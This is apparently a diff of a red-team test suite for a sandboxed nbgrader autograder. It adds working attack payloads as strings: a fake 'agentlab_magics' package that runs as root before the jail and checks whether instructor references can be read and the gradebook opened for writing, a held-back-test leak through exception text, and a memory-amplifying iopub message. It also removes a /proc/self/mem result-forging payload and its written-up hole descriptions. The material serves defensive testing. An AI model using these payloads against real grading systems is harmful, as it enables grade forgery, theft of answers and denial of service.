@@ -22,9 +22,6 @@ from __future__ import annotations
 import copy
 import hashlib
 import html
-import importlib
-import importlib.util
-import inspect
 import json
 import os
 import re
@@ -41,11 +38,13 @@ import nbformat
 import pytest
 from nbformat.v4 import new_code_cell
 
-from agentlab_magics.checking.runner import is_held_back, lab_tests
+from agentlab_magics.checking.runner import lab_tests
+from agentlab_magics.course.heldback import held_back_name, held_back_sources
 from agentlab_magics.course import find_lab
 from agentlab_magics.course.nbgrader_cli import LAUNCH, Nbgrader
 from agentlab_magics.grading.output import NOTICE
 from agentlab_magics.grading.sandbox import detect, instructor_paths
+from tests.security.forgeries import FORGE_CHANNEL, LAB_MODULE_CLASS, RESTORING_EXACT
 
 pytest.importorskip("nbgrader")
 from nbgrader.api import Gradebook  # noqa: E402
@@ -68,26 +67,6 @@ if os.geteuid() != 0 or detect() != "root":
 
 # -- what must never reach a page ------------------------------------------------------------
 
-def _held_back_sources() -> tuple[list[str], bool]:
-    """The code of the lab's held-back tests (wherever they are: marked `@held_back` in the
-    student package's labtests, or in the instructor package's heldback module), and whether
-    any of them still ships in the student package."""
-    texts, shipped = [], False
-    visible = importlib.import_module(LESSON.tests)
-    for function in vars(visible).values():
-        if inspect.isfunction(function) and is_held_back(function):
-            texts.append(inspect.getsource(function))
-            shipped = True
-    name = f"agentlab_instructor.heldback.{LESSON.tests.rpartition('.')[2]}"
-    try:
-        found = importlib.util.find_spec(name)
-    except ImportError:
-        found = None
-    if found is not None and found.origin:
-        texts.append(Path(found.origin).read_text(encoding="utf-8"))
-    return texts, shipped
-
-
 def _code_lines(sources: list[str]) -> list[str]:
     """The distinctive code lines of some test functions: no def, decorator or docstring line
     (a failed test's sentence, its docstring, is on the page by design)."""
@@ -99,14 +78,15 @@ def _code_lines(sources: list[str]) -> list[str]:
             if text.count('"""') == 1:
                 in_doc = not in_doc
                 continue
-            if in_doc or '"""' in text or text.startswith(("def ", "@", "#")) or len(text) < 30:
+            # (an import line is no secret: the setup cell of every page holds the same one)
+            if in_doc or '"""' in text or text.startswith(("def ", "@", "#", "from ", "import ")) \
+                    or len(text) < 30:
                 continue
             lines.append(text)
     return lines
 
 
-HELD_BACK_TEXTS, HELD_BACK_SHIPPED = _held_back_sources()
-HELD_BACK_LINES = _code_lines(HELD_BACK_TEXTS)
+HELD_BACK_LINES = _code_lines([held_back_sources()[held_back_name(LESSON)]])
 REFERENCE_LINES = [line.strip() for line in LESSON.reference.splitlines()
                    if line.strip() and line not in LESSON.starter
                    and not line.strip().startswith("def ") and len(line.strip()) >= 25]
@@ -342,40 +322,6 @@ for _ in range(100):
 sys.stdout.flush()
 '''
 
-# A test's child reports each outcome into a shared anonymous mapping (checking/isolated.py).
-# Student code runs in that child: it finds the mapping in /proc/self/maps and writes a "done,
-# passed" event for every test through /proc/self/mem, then exits before any test runs.
-FORGE_CHANNEL = '''
-import json as _json, os as _os, struct as _struct
-
-def _forge():
-    size = 32 << 20
-    for line in open("/proc/self/maps"):
-        parts = line.split()
-        low, high = (int(x, 16) for x in parts[0].split("-"))
-        if high - low == size and parts[1].startswith("rw") and parts[1].endswith("s"):
-            break
-    else:
-        return
-    body = b""
-    events = [{"event": "load"}] + [e for k in range(64) for e in (
-        {"event": "start", "k": k}, {"event": "done", "k": k, "outcome": "passed"})]
-    for event in events:
-        raw = _json.dumps(event).encode()
-        body += _struct.pack("<I", len(raw)) + raw
-    try:
-        with open("/proc/self/mem", "r+b", buffering=0) as memory:
-            memory.seek(low + 8)
-            memory.write(body)
-            memory.seek(low)
-            memory.write(_struct.pack("<Q", 8 + len(body)))
-    except OSError:
-        return
-    _os._exit(0)
-
-_forge()
-'''
-
 # The grader's sandbox hides the course it grades and the instructor package, but not the
 # project the agentlab package is imported from: an editable install (pip install -e .) makes
 # that the whole checkout, whose nbgrader_course/source/ (and .git) hold every reference.
@@ -559,12 +505,90 @@ for _pid in range(1, 4):
         print("refused:", _pid, type(_error).__name__)
 '''
 
+# -- z3: a second round of attacks ----------------------------------------------------------
+
+# The grader starts the kernel's sandbox as `python -m agentlab_magics.grading.jail` with the
+# kernel's scratch folder as its working folder (autograde.SandboxedKernelManager), and that
+# folder holds a copy of the submission; `python -m` puts the working folder first on
+# sys.path. A submission that hands in a folder `agentlab_magics/` of its own therefore runs
+# its own code as root, before the jail hides or drops anything. This package records what it
+# could reach, then gives way to the real package so the jail and the kernel go on as usual.
+JAIL_HIJACK_PACKAGE = '''
+import os as _os, sys as _sys
+_here = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
+if _os.geteuid() == 0:
+    _reached = []
+    for _path in ("@COURSE@/submitted/reference/lesson1/lesson1.ipynb",
+                  "@INSTRUCTOR@/heldback/lesson1.py"):
+        try:
+            with open(_path, "rb") as _file:
+                _reached.append(f"read {_path} ({len(_file.read())} bytes)")
+        except OSError:
+            pass
+    for _path in ("@COURSE@/gradebook.db", "@COURSE@/nbgrader_config.py"):
+        try:
+            open(_path, "r+b").close()  # opened for writing, nothing written or made
+            _reached.append(f"could write {_path}")
+        except OSError:
+            pass
+    if _reached:
+        with open(_os.path.join(_here, "jail-hijack.txt"), "w") as _file:
+            _file.write("; ".join(_reached))
+_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or _os.curdir) != _here]
+del _sys.modules[__name__]
+import importlib as _importlib
+_sys.modules[__name__] = _importlib.import_module(__name__)
+'''
+
+JAIL_HIJACK_REPORT = '''
+try:
+    print("BREACH: root code ran before the jail:", open("jail-hijack.txt").read())
+except OSError as _error:
+    print("no hijack:", type(_error).__name__)
+'''
+
+# A held-back job runs the student's cell with the held-back tests importable from their text
+# (grading/score.py FromText, on sys.meta_path, its `.sources`). The load's problem sentence
+# ("Running <your cell> raised ...") carries the exception's own message, and
+# autograde._private keeps a held-back report's `problem` whole: raising the held-back
+# source while loading puts it on the graded cell's report and the feedback page.
+HELD_BACK_PROBLEM_LEAK = '''
+import sys as _sys
+
+def _held_back_text():
+    for _finder in list(_sys.meta_path):
+        _sources = getattr(_finder, "sources", None)
+        if type(_sources) is dict and "agentlab_instructor.heldback.lesson1" in _sources:
+            return _sources["agentlab_instructor.heldback.lesson1"]
+    return None
+
+_text = _held_back_text()
+if _text is not None:
+    _lines = [_line.strip() for _line in _text.splitlines()
+              if len(_line.strip()) >= 30 and not _line.strip().startswith(('"""', "def "))]
+    raise RuntimeError("\\n".join(_lines)[:1900])
+'''
+
+# RESTORING_EXACT and LAB_MODULE_CLASS (forgeries.py): patches guard.Snapshot never sees.
+
+# The kernel is the student's: it may send one iopub message whose JSON is small to make and
+# send (one empty list referenced 30 million times, ~120 MB) but huge to decode (30 million
+# distinct lists, ~2 GB). The grader's nbclient decodes the whole message (jupyter_client
+# Session.deserialize) before ScoredOutside.output weighs it against received_limit, and then
+# json.dumps it again to weigh it: the root grader process pays all of that.
+ZMQ_AMPLIFY = '''
+from IPython.display import publish_display_data
+publish_display_data({"text/plain": "amplified"}, metadata={"redteam": [[]] * 30_000_000})
+print("sent")
+'''
+
 
 @dataclass
 class Attack:
     lab_tail: str = ""
     cells: list[str] = field(default_factory=list)
     links: dict[str, str] = field(default_factory=dict)
+    files: dict[str, str] = field(default_factory=dict)  # more plain files, by relative path
 
 
 ATTACKS: dict[str, Attack] = {
@@ -598,6 +622,12 @@ ATTACKS: dict[str, Attack] = {
         f"{LAB}.ipynb": f"@COURSE@/submitted/reference/{LAB}/{LAB}.ipynb"}),
     "x_html_injection": Attack(cells=[HTML_INJECTION]),
     "y_write_graded": Attack(cells=[WRITE_GRADED]),  # after "reference": its autograded/ exists
+    "z3_jail_hijack": Attack(cells=[JAIL_HIJACK_REPORT], files={
+        "agentlab_magics/__init__.py": JAIL_HIJACK_PACKAGE}),
+    "z3_held_back_problem_leak": Attack(lab_tail=HELD_BACK_PROBLEM_LEAK),
+    "z3_restoring_exact": Attack(lab_tail=RESTORING_EXACT),
+    "z3_lab_module_class": Attack(lab_tail=LAB_MODULE_CLASS),
+    "z3_zmq_amplify": Attack(cells=[ZMQ_AMPLIFY]),
     "zz1_tmp_plant": Attack(lab_tail=TMP_PLANT, cells=[TMP_PLANT]),
 }
 VICTIM = "zz2_victim"          # the reference's code, graded right after zz1_tmp_plant
@@ -790,6 +820,9 @@ def graded(tmp_path_factory) -> Round:
             nbformat.write(_submission(released, student, values), where / f"{LAB}.ipynb")
         for name, target in links.items():
             (where / name).symlink_to(_fill(target, values))
+        for name, text in ATTACKS.get(student, Attack()).files.items():
+            (where / name).parent.mkdir(parents=True, exist_ok=True)
+            (where / name).write_text(_fill(text, values), encoding="utf-8")
 
     db = course / "gradebook.db"
     watched = {"nbgrader_config.py": course / "nbgrader_config.py",
@@ -826,54 +859,17 @@ def graded(tmp_path_factory) -> Round:
 
 
 # -- which attacks work (each is explained in the reason) ------------------------------------
+# An attack that is found to work is added to these with the grader file and line
+# it goes through, and its tests are marked xfail(strict=True) until the hole is closed.
 
-FORGED = (
-    "full marks with no code: the lab cell runs in the test's child (checking/isolated.py "
-    "_child, line 315 `_load`), which still maps the shared outcome channel (line 209); it "
-    "finds the 32 MB rw-s mapping in /proc/self/maps and writes 'done, passed' events into it "
-    "through /proc/self/mem, then os._exit(0); the caller (_follow/_read_events) trusts them. "
-    "The guard has no audit event for opening /proc/self/mem, and the child (like score.py, "
-    "grading/score.py main) is dumpable, so the sandbox's own uid may open it (and the "
-    "parent's /proc/1/mem too)")
-CHECKOUT = (
-    "full marks with no code: the sandbox hides the graded course, the exchange, the "
-    "gradebook and the instructor package (autograde.py _hidden, line 74), but not the source "
-    "checkout agentlab_magics is imported from (an editable install; sandbox.py "
-    "interpreter_paths line 113 even names it): the lab cell reads the reference out of the "
-    "checkout's nbgrader_course/source/lesson1/lesson1.ipynb and execs it under the filename "
-    "'<your cell>', which _owns_its_names accepts; the checkout's .git (readable too) holds "
-    "every reference, even where the graded course is the checkout's own")
-LINKED_NOTEBOOK = (
-    "another student's marks: the submitted notebook is a symbolic link to "
-    "submitted/reference/lesson1/lesson1.ipynb, and nbgrader (as root, outside any sandbox) "
-    "reads it as this student's; nothing in grading/ refuses links in a submission folder")
-SYMLINKS = (
-    "reads any file root can read: nbgrader's init_assignment (nbgrader/converters/base.py "
-    "line 301, shutil.copy) copies a submission folder's links as the files they name into "
-    "autograded/<student>/ (and generate_feedback into feedback/), then ScoredOutside "
-    "(autograde.py line 92, copytree) copies that folder into the kernel's scratch, where "
-    "the kernel prints another student's notebook and the instructor's reference")
-PLANT = (
-    "a submission stops the grading of every later one: jail.expose() (jail.py line 55) stages "
-    "its bind mounts at /tmp/.agentlab-expose-{os.getpid()}, and the jail is always pid 1 of "
-    "its pid namespace, in the /tmp every sandbox shares; a plain file planted there makes "
-    "os.makedirs(staging, exist_ok=True) raise FileExistsError in every later jail, so later "
-    "kernels never start and their scoring fails ('could not score')")
-SCRIPT = (
-    "a submission's text/html and application/javascript outputs reach the feedback page (and "
-    "the formgrader) as live markup: ScoredOutside keeps every non-graded cell's outputs as the "
-    "kernel sent them, and nbconvert's HTMLExporter does not sanitize by default")
-HELD_BACK = (
-    "the held-back tests still ship in the student package (agentlab_magics/course/labtests/"
-    "lesson1.py, marked @held_back), which the sandbox must let the kernel read; a cell prints "
-    "their source onto its feedback page (docs/instructors.md states this limit)")
-
-SCORE_WORKS = {"p_forge_channel": FORGED, "q_checkout_reference": CHECKOUT,
-               "w_symlinked_notebook": LINKED_NOTEBOOK}
-BREACH_WORKS = {"q_checkout_reference": CHECKOUT, "w_symlinks": SYMLINKS}
-HELD_BACK_WORKS = {"n_print_held_back": HELD_BACK} if HELD_BACK_SHIPPED else {}
-PAGE_WORKS = {"w_symlinks": SYMLINKS, "w_symlinked_notebook": LINKED_NOTEBOOK}
+SCORE_WORKS: dict[str, str] = {}
+BREACH_WORKS: dict[str, str] = {}
+HELD_BACK_WORKS: dict[str, str] = {}
+PAGE_WORKS: dict[str, str] = {}
 SIZE_WORKS: dict[str, str] = {}
+VICTIM_WORKS: dict[str, str] = {}
+TMP_WORKS: dict[str, str] = {}
+MEMORY_WORKS: dict[str, str] = {}
 
 
 def _param(student: str, works: dict[str, str]):
@@ -909,7 +905,7 @@ def test_an_attack_scores_no_more_than_its_code_earns(graded, student):
         assert not score and not auto and manual is None, (name, cells[name])
 
 
-@pytest.mark.parametrize("student", [_param(VICTIM, {VICTIM: PLANT})])
+@pytest.mark.parametrize("student", [_param(VICTIM, VICTIM_WORKS)])
 def test_a_submission_graded_after_an_attack_keeps_its_marks(graded, student):
     cells = graded.grades[student]
     assert {name: grade[0] for name, grade in cells.items()} == POINTS, \
@@ -948,15 +944,21 @@ def test_no_attack_did_what_a_submission_must_never_do(graded, student):
     assert "BREACH" not in graded.outputs(student)
 
 
-SHARED_TMP = ("a submission leaves files in /tmp, /var/tmp and /dev/shm, which every sandbox "
-              "and the grader share (jail.py mounts no private /tmp), and they outlive its "
-              "grading: litter, a planted staging name (see PLANT), or a full /tmp that stops "
-              "the grader's own mkdtemp/copytree for every later submission")
-
-
-@pytest.mark.parametrize("_", [_param("tmp", {"tmp": SHARED_TMP})])
+@pytest.mark.parametrize("_", [_param("tmp", TMP_WORKS)])
 def test_nothing_a_submission_wrote_outlives_its_grading(graded, _):
     assert [entry for entry in graded.left_over if entry[1] != 0] == []
+
+
+# The largest resident size of any process this test run has waited for: nbgrader (the root
+# grader), every kernel and every scoring process (an honest round comes nowhere near it).
+GRADER_MEMORY_KIB = 1_500_000
+
+
+@pytest.mark.parametrize("_", [_param("memory", MEMORY_WORKS)])
+def test_no_process_of_the_round_grew_past_a_bound(graded, _):
+    import resource
+
+    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < GRADER_MEMORY_KIB
 
 
 # -- the pages ------------------------------------------------------------------------------
@@ -994,12 +996,13 @@ def test_a_flood_of_output_is_cut(graded):
     assert NOTICE.split("{")[0] in graded.outputs("o_print_100mb")
 
 
-@pytest.mark.xfail(strict=True, reason=SCRIPT)
 def test_no_page_runs_a_submissions_script(graded):
     """A submission's HTML and JavaScript outputs land on its feedback page (and in the
-    formgrader, in front of the instructor): they must not arrive there as live markup."""
+    formgrader, in front of the instructor): they must not arrive there as live markup. (The
+    attack's own code is on the page too, as escaped and highlighted text.)"""
     raw = graded.raw_page("x_html_injection")
     assert raw
-    live = [f"<script>document.title = '{MARK}-script'</script>",
-            f"onerror=\"document.title='{MARK}-onerror'\"", f"document.title = '{MARK}-javascript'"]
-    assert [text for text in live if text in raw] == []
+    scripts = re.findall(r"<script\b[^>]*>(.*?)</script\s*>", raw, re.S | re.I)
+    assert [body for body in scripts if MARK in body] == []
+    assert f"onerror=\"document.title='{MARK}-onerror'\"" not in raw
+    assert not re.search(r"<img\b[^>]*\bonerror\s*=", raw, re.I)
